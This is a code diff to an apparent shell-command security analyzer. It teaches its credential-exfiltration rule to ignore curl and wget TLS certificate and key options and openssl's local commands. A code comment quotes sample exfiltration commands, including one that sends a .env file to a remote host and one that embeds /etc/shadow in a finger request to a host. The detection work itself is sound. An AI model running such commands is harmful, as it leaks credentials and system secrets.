@@ -98,6 +98,49 @@ function opensRemoteSocket(a: Analysis): boolean {
 const carriesInput = (c: Cmd) =>
   reachesNetwork(c) && (c.r.wrappers.includes("xargs") || c.r.args.some((w) => w.vars.length > 0));
 
+/**
+ * Options whose value is the client's own TLS material, used for the handshake and never
+ * sent (`curl --cert client.pem --key client.key https://api…`, mutual TLS): per program.
+ */
+const TLS_MATERIAL = new Map<string, ReadonlySet<string>>([
+  [
+    "curl",
+    new Set(
+      "--cert -E --key --cacert --capath --crlfile --pinnedpubkey --proxy-cert --proxy-key --proxy-cacert --proxy-capath".split(
+        " ",
+      ),
+    ),
+  ],
+  [
+    "wget",
+    new Set("--certificate --private-key --ca-certificate --ca-directory --crl-file".split(" ")),
+  ],
+]);
+
+/** A secret the command names other than as the value of a TLS option (see TLS_MATERIAL). */
+function secretBesideTls(c: Cmd): string | undefined {
+  const options = TLS_MATERIAL.get(c.r.name) as ReadonlySet<string>;
+  const args = c.r.args;
+  for (let i = 0; i < args.length; i++) {
+    const w = args[i] as (typeof args)[number];
+    const t = w.text ?? w.raw;
+    if (options.has(t)) {
+      i++; // its value
+      continue;
+    }
+    const eq = t.indexOf("=");
+    if (eq > 0 && options.has(t.slice(0, eq))) continue;
+    const s = mentionsSecret(w.raw);
+    if (s) return s;
+  }
+  for (const r of c.sc.redirects) {
+    const s =
+      r.op.startsWith("<") && r.op !== "<<" ? mentionsSecret(r.target?.raw ?? "") : undefined;
+    if (s) return s;
+  }
+  return undefined;
+}
+
 /** The first operand that names a host is not a loopback address. */
 function remote(args: readonly string[]): boolean {
   const host = args.find((x) => !x.startsWith("-") && !/^\d+$/.test(x));
@@ -115,8 +158,13 @@ export function credentialExfil(a: Analysis, hit: Hit): boolean {
   for (const c of a.cmds) {
     // Any program handed a secret and a remote host sends one to the other (`lp .env -h
     // 10.0.0.9`, `finger "$(cat /etc/shadow)"@host`, a perl one-liner opening a socket).
-    if (LOCAL_ONLY.has(c.r.name) || (!isSink(c) && !namesRemoteHost(c))) continue;
-    const secret = mentionsSecret(c.sc.raw) ?? readsSecret(c);
+    const sink = isSink(c);
+    // openssl's local commands name hosts only in certificate subjects (`-subj /CN=api.x.com`).
+    if (LOCAL_ONLY.has(c.r.name) || (!sink && (c.r.name === "openssl" || !namesRemoteHost(c))))
+      continue;
+    const secret = TLS_MATERIAL.has(c.r.name)
+      ? secretBesideTls(c)
+      : (mentionsSecret(c.sc.raw) ?? readsSecret(c));
     if (secret) return hit("shell.credential-exfil", c.sc.raw);
   }
   for (const c of a.cmds) {
